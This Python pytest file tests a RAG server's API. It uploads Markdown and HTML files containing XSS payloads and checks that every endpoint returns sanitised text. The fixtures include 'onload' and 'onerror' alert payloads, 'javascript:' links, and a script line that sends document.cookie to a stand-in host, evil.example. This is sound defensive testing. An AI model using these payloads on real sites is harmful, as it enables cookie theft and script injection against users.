"""Issue 23, row 7: HTML and script in an uploaded document never reach an API client as markup.
Every text field of every endpoint (chat, streamed chat, retrieve, documents, conversations) is
cleaned as the API's docstring promises. A real `rag serve` over its own copy of the index."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator

import httpx
import pytest
from servers import VENV_BIN, free_port, isolated_env, running

from rag.core.settings import Settings

pytestmark = pytest.mark.slow

ADMIN = "admin-token-clean-0123456789"
H = {"Authorization": f"Bearer {ADMIN}"}
HOSTILE_MD = (
    b"# Plover <svg onload=alert(7)> engine\n\n"
    b"The Plover <b>engine</b> renders 93 frames per second on a laptop GPU. "
    b"<script>fetch('https://evil.example/'+document.cookie)</script> "
    b"<img src=x onerror=alert(1)> See [the demo](javascript:alert(2)) for the Plover engine.\n"
)
HOSTILE_HTML = (
    b"<html><head><title>Heron &lt;svg onload=alert(8)&gt; sampler</title></head><body>"
    b"<h1>Heron &lt;script&gt;alert(9)&lt;/script&gt; sampler</h1>"
    b"<p>The Heron sampler needs 4 steps &lt;img src=x onerror=alert(3)&gt; per image.</p>"
    b"</body></html>"
)
MARKUP = re.compile(r"<\s*(?:script|svg|img|b)\b|javascript:", re.IGNORECASE)


@pytest.fixture(scope="module")
def http(
    rag_env: dict[str, str], settings: Settings, tmp_path_factory: pytest.TempPathFactory
) -> Iterator[httpx.Client]:
    where = tmp_path_factory.mktemp("api-clean")
    port = free_port()
    env = {
        **isolated_env(rag_env, settings.index_dir, where),
        "RAG_API__HOST": "127.0.0.1",
        "RAG_API__PORT": str(port),
        "RAG_SECURITY__ADMIN_TOKEN": ADMIN,
        "RAG_LLM__MAX_TOKENS": "60",
    }
    url = f"http://127.0.0.1:{port}"
    serve = [str(VENV_BIN / "rag"), "serve"]
    with (
        running(serve, f"{url}/health", where / "serve.log", env),
        httpx.Client(base_url=url, timeout=300, headers=H) as c,
    ):
        files = [("files", ("plover.md", HOSTILE_MD)), ("files", ("heron.html", HOSTILE_HTML))]
        r = c.post("/v1/documents", files=files)
        assert r.status_code == 200, r.text
        yield c


def _markup(body: str) -> list[str]:
    return MARKUP.findall(body)


def test_every_endpoint_returns_inert_text(http: httpx.Client) -> None:
    seen: dict[str, str] = {}
    for question in (
        "How many frames per second does the Plover engine render?",
        "How many steps does the Heron sampler need?",
    ):
        body = {"messages": [{"role": "user", "content": question}], "conversation_id": "new"}
        r = http.post("/v1/chat/completions", json=body)
        assert r.status_code == 200, r.text
        titles = [p["title"] for p in r.json()["answer"]["passages"]]
        assert any("Plover" in t or "Heron" in t for t in titles), titles  # the upload is read
        seen[f"chat {question}"] = r.text
        conv = r.json()["conversation_id"]
        seen[f"conversation {conv}"] = http.get(f"/v1/conversations/{conv}").text
        with http.stream("POST", "/v1/chat/completions", json={**body, "stream": True}) as s:
            seen[f"stream {question}"] = "".join(s.iter_text())
        r = http.post("/v1/retrieve", json={"question": question, "k": 5})
        seen[f"retrieve {question}"] = r.text
    seen["documents"] = http.get("/v1/documents").text
    seen["conversations"] = http.get("/v1/conversations").text
    leaks = {where: _markup(text) for where, text in seen.items() if _markup(text)}
    assert leaks == {}
    # the words around the markup are kept: cleaned, not dropped
    passages = json.loads(
        seen["retrieve How many frames per second does the Plover engine render?"]
    )
    text = " ".join(p["text"] for p in passages["passages"])
    assert "93 frames per second" in text and "the demo" in text
